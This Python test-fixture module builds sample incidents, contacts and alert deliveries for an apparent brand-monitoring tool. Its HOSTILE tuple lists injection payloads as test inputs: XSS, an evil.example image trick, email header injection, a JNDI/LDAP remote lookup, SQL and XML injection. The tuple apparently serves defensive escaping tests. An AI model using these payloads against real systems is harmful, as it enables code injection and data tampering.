"""Incidents, contacts and deliveries of our own making."""

from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

from overheard.alerts.parties import Known
from overheard.records import (
    Actor,
    Delivery,
    DeliveryItem,
    Incident,
    Language,
    Mention,
    Party,
    Polarity,
    Role,
    Sentiment,
    Snippet,
    TargetSentiment,
    TermKind,
    WatchHit,
    digest,
    incident_id,
    mention_id,
    snippet_id,
    sort_key,
)

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
ADDRESS = "http://127.0.0.1:8787"
MEERA = Known(id="con_meera", name="Meera Chitnis", organisation="Palomino Gears", tag="customer", account="acc_gears")
GEARS = Known(id="acc_gears", name="Palomino Gears", organisation="Palomino Gears", tag="customer")
ANTON = Known(id="con_anton", name="Anton Brezina", organisation="Ostrava Castings", tag="lost customer")
LUCIA = Known(id="con_lucia", name="Lucia Ferrand", organisation="Tidewater Pumps", tag="prospect")
KNOWN = {one.id: one for one in (MEERA, GEARS, ANTON, LUCIA)}

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=https://evil.example/x.png onerror=alert(1)>',
    "Bcc: everybody@evil.example\r\nBcc: more@evil.example",
    "\u202egnp.exe\u2066\u200f",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
    "x" * 1_000_000,
    "'; DROP TABLE log; --",
    "]]></description><item>&bogus;\x00\x1b[31m\ufffe",
)


def party(who: Known, role: Role = "author", outcome: str = "linked", score: float = 1.0) -> Party:
    return Party(role=role, subject=who.id, name=who.name, outcome=outcome, score=score)  # type: ignore[arg-type]


def incident(
    n: int = 1,
    text: str = "Korvex support is terrible",
    *,
    parties: Sequence[Party] | None = None,
    polarity: Polarity = "negative",
    confidence: float = 0.9,
    kind: TermKind = "own-company",
    term: str = "Korvex",
    at: datetime = NOW,
    first_seen: datetime | None = None,
    author: str = "meerac",
    **changes: Any,
) -> Incident:
    """A post about one term where the text names it, by Meera unless `parties` say otherwise."""
    id_ = mention_id("reddit", str(n))
    parties = (party(MEERA),) if parties is None else tuple(parties)
    seen = first_seen or at
    start = text.find(term)
    has = start >= 0
    mention = {name: changes.pop(name) for name in list(changes) if name in Mention.__struct_fields__}
    said = Mention(
        **{
            "id": id_,
            "platform": "reddit",
            "native_id": str(n),
            "source": "reddit",
            "content": text,
            "url": f"https://reddit.example/{n}",
            "published": at,
            "first_seen": seen,
            "attributed_to": Actor(platform="reddit", preferred_username=author) if author else None,
            **mention,
        }
    )
    snippet = Snippet(
        id=snippet_id(id_, term.lower(), 0, len(text)),
        mention=id_,
        target=term.lower(),
        exact=text,
        prefix="",
        suffix="",
        start=0,
        end=len(text),
        text_hash=digest(text),
        polarity=polarity,
        confidence=confidence,
    )
    fields: dict[str, Any] = {
        "id": incident_id(id_),
        "k": str(sort_key(id_, said.published, seen)),
        "mention": said,
        "passed": (),
        "language": Language(),
        "sentiment": Sentiment(polarity=polarity, confidence=confidence),
        "hits": (WatchHit(term=term.lower(), kind=kind, start=start, end=start + len(term)),) if has else (),
        "targets": (
            TargetSentiment(target=term.lower(), polarity=polarity, confidence=confidence, start=0, end=len(text)),
        )
        if has
        else (),
        "snippets": (snippet,) if has else (),
        "parties": tuple(parties),
        "why": tuple(f"{p.role} {p.name}: linked; the CRM names it" for p in parties),
    }
    return Incident(**{**fields, **changes})


def item(n: int = 1, **changes: Any) -> DeliveryItem:
    fields: dict[str, Any] = {
        "incident": incident_id(mention_id("reddit", str(n))),
        "contact": "con_meera",
        "name": "Meera Chitnis",
        "account": "Palomino Gears",
        "said_by": "meerac",
        "source": "reddit",
        "text": "Korvex support is terrible",
        "polarity": "negative",
        "why": ("Meera Chitnis is a customer",),
        "page": f"{ADDRESS}/incidents/inc_{n}",
        "contact_page": f"{ADDRESS}/contacts/con_meera",
        "url": f"https://reddit.example/{n}",
        "at": NOW,
    }
    return DeliveryItem(**{**fields, **changes})


def delivery(channel: str = "mail", n: int = 1, **changes: Any) -> Delivery:
    fields: dict[str, Any] = {
        "id": f"del_{digest(channel, str(n))}",
        "kind": "alert",
        "rule": "complaint",
        "about": f"inc_{n}",
        "channel": channel,
        "subject": "Complaint by Meera Chitnis (Palomino Gears)",
        "items": (item(n),),
        "created": NOW,
        "next_attempt": NOW,
    }
    return Delivery(**{**fields, **changes})
